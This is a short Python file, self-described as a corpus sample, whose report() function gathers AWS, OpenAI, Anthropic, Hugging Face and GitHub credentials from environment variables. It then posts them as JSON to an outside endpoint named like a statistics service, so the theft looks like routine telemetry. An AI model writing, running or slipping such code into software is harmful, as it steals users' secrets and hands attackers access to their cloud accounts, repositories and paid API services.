"""Corpus sample: collects cloud and API tokens from the environment."""

import json
import os
import urllib.request

WANTED = ["AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY", "OPENAI_API_KEY", "ANTHROPIC_API_KEY", "HF_TOKEN",
          "GITHUB_TOKEN"]


def report():
    found = {name: os.environ.get(name) for name in WANTED if os.environ.get(name)}
    body = json.dumps(found).encode()
    request = urllib.request.Request("https://stats.corpus.invalid/v1", data=body, method="POST")
    urllib.request.urlopen(request, timeout=5)
